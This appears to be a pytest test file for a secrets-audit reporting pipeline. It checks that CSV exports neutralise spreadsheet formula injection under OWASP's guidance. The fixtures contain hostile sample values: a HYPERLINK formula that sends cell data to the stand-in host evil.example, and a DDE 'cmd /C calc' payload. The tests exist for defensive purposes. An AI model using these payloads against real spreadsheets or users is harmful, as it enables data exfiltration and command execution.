"""CSV injection: identities, secret paths, owners and notes that a spreadsheet would run
as formulas (starting `=`, `+`, `-`, `@`, tab or carriage return, also after leading
whitespace, also their full-width forms) are written to every CSV with a leading `'`, as
OWASP recommends; numbers stay numbers, and the JSON copies keep the values as they are."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import orjson
import pandas as pd
import pytest
import yaml

from detectors.alert import Finding, Incident
from pipeline.record import EventRow
from pipeline.reports import export, period
from pipeline.reports.run import generate
from pipeline.reports.settings import ReportConfig
from pipeline.store.duckdb import DuckDBStore

PREFIXES = ["=", "+", "-", "@", "\t", "\r", " =", "\t+", "  @", "\n-", "＝", "＋", "－", "＠"]
FORMULA = 'HYPERLINK("http://evil.example/?x="&A1,"click")'
WHEN = datetime(2026, 8, 3, 9, tzinfo=UTC)


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet could read the cell as a formula (OWASP's characters, also
    after leading whitespace, also full-width)."""
    first, after_space = cell[:1], cell.lstrip()[:1]
    return bool(first) and (first in "=+-@\t\r" or after_space in tuple("=+-@＝＋－＠"))


def hostile(i: int) -> str:
    return f"{PREFIXES[i]}{FORMULA}"


def rows() -> list[EventRow]:
    out = []
    for i, prefix in enumerate(PREFIXES):
        identity, secret = hostile(i), f"{prefix}secret/team-{i}/db"
        ts = int((WHEN + timedelta(hours=i)).timestamp()) * 1_000_000
        for n, (action, outcome) in enumerate([("read", "success"), ("write", "success"),
                                               ("read", "denied")]):  # fmt: skip
            out.append(EventRow(f"ev-{i}-{n}", ts + n, "vault", f"{prefix}vault", identity,
                                "service", secret, action, f"{prefix}op", outcome,
                                f"{prefix}10.0.0.1", f"{prefix}agent", f"{prefix}req",
                                f"{prefix}error" if outcome == "denied" else None,
                                f"{prefix}note"))  # fmt: skip
    return out


def alerts() -> list[dict]:
    out = []
    for i in range(len(PREFIXES)):
        start = int((WHEN + timedelta(hours=i)).timestamp()) * 1_000_000
        incident = Incident(hostile(i), baseline_version=1)
        incident.add(Finding("denied_burst", hostile(i), start, start + 3_600_000_000, start,
                             3.0, 2.0, "medium", f"{PREFIXES[i]}cmd|' /C calc'!A0",
                             (f"ev-{i}-2",)))  # fmt: skip
        out.append(incident.alert().model_dump(mode="json"))
    return out


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    with DuckDBStore(folder / "store.duckdb") as store:
        store.write_batch(rows())
        found = alerts()
        store.save_detection([], {}, found, version=1)
        now = datetime(2026, 10, 2, tzinfo=UTC)
        for i, alert in enumerate(found):
            store.resolve_alert(alert["id"], "true_positive", f"{PREFIXES[i]}analyst",
                                f"{PREFIXES[i]}SUM(1+1)", now)  # fmt: skip
    owners = [{"match": f"{p}secret/team-{i}/*", "owner": f"{p}owner", "contact": f"{p}mail"}
              for i, p in enumerate(PREFIXES)]  # fmt: skip
    inventory = {
        "secrets": [{"secret": f"{p}inventory/{i}", "source": "vault", "owner": f"{p}team"}
                    for i, p in enumerate(PREFIXES)],
        "identities": [{"identity": hostile(i), "policies": [f"{p}policy"]}
                       for i, p in enumerate(PREFIXES)],
        "grants": [{"identity": hostile(i), "source": "vault", "secrets": [f"{p}granted/*"],
                    "note": f"{p}SUM(A1:A9)"} for i, p in enumerate(PREFIXES)],
    }  # fmt: skip
    (folder / "owners.yaml").write_text(yaml.safe_dump({"owners": owners}))
    (folder / "inventory.yaml").write_text(yaml.safe_dump(inventory))
    cfg = ReportConfig(owners=folder / "owners.yaml", inventory=folder / "inventory.yaml")
    out = folder / "report"
    with DuckDBStore(folder / "store.duckdb", read_only=True) as store:
        generate(store, "duckdb", period.quarter("2026Q3"), cfg, out)
    return out


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_no_csv_cell_can_run_as_a_formula(hostile_report: Path) -> None:
    neutralised = 0
    for path in sorted((hostile_report / "csv").glob("*.csv")):
        for row in cells(path):
            for cell in row:
                assert not dangerous(cell), (path.name, cell)
                neutralised += cell.startswith("'")
    assert neutralised > 100  # the hostile values did reach the CSVs, neutralised
    identities = {cell for row in cells(hostile_report / "csv" / "identities.csv")
                  for cell in row}  # fmt: skip
    assert {"'" + hostile(i) for i in range(len(PREFIXES))} <= identities


def test_json_keeps_the_values_as_they_are(hostile_report: Path) -> None:
    table = orjson.loads((hostile_report / "json" / "identities.json").read_bytes())
    assert {hostile(i) for i in range(len(PREFIXES))} <= {row["identity"] for row in table}
    text = (hostile_report / "json" / "secret_accessors.json").read_text()
    assert "'" + FORMULA not in text


def test_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
    frame = pd.DataFrame({"n": [-3, 4], "x": [-2.5, 1.0], "t": ["-3", "ok"],
                          "when": pd.to_datetime(["2026-07-01", None], utc=True)})  # fmt: skip
    rows = list(csv.reader(io.StringIO(export.to_csv(frame).decode())))
    assert rows == [["n", "x", "t", "when"], ["-3", "-2.5", "'-3", "2026-07-01T00:00:00Z"],
                    ["4", "1.0", "ok", ""]]  # fmt: skip
    assert orjson.loads(export.to_json(frame))[0]["t"] == "-3"


@pytest.mark.parametrize(
    ("text", "written"),
    [("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("  =1", "'  =1"), ("\n@x", "'\n@x"),
     ("＝1", "'＝1"), ("plain", "plain"), ("a=b", "a=b"), ("", ""), ("'=x", "'=x")],
)  # fmt: skip
def test_one_cell(text: str, written: str) -> None:
    assert export.spreadsheet_safe(text) == written
